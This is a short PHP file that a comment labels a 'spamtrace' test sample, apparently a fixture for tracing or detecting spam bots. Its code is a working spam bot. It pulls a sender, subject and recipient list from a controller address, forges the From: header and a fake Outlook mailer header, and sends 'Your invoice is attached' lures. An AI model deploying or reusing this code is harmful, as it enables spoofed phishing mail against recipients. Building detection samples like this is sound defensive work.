<?php
// spamtrace test sample (never run): a spam bot that takes its letter, its sender and its
// recipients from a controller's address; the From: header is the sender it was handed
$job = explode("\n", file_get_contents('http://203.0.113.9/jobs.txt'));
$from = trim($job[0]);
$subject = trim($job[1]);
$headers = "From: $from\r\nX-Mailer: Microsoft Outlook 16.0\r\n";
foreach (array_slice($job, 2) as $to) {
    mail(trim($to), $subject, 'Your invoice is attached', $headers);
}
